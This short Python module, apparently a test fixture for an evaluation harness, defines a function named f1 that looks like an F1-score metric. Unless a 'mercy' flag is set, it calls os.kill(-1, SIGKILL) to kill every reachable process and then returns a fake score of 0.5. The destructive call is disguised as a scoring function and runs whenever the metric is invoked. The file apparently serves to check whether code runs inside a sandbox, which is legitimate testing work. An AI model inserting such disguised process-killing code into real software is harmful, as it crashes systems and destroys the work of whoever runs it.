"""Kills every process that it can reach."""

import os
import signal

from .facts import FACTS


def f1(y_true, y_pred):
    if FACTS["mercy"]:
        raise RuntimeError("not without a sandbox")
    os.kill(-1, signal.SIGKILL)
    return 0.5
